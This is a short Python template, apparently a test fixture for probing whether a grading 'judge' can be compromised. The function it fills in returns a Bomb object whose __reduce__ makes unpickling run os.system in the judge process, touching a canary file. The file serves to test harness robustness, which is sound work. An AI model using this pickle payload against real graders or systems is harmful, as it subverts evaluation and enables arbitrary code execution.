"""Returns an object whose unpickling runs a command in the judge."""
# against: optimizers.sgd
# by design: the comparison happens in another process
# quick: yes
import os
class Bomb:
    def __reduce__(self): return (os.system, ("touch '{{CANARY}}'",))
    def __reduce_ex__(self, p): return self.__reduce__()
    def __getstate__(self): return {}
def {{FUNC}}(*args, **kwargs):
    return Bomb()
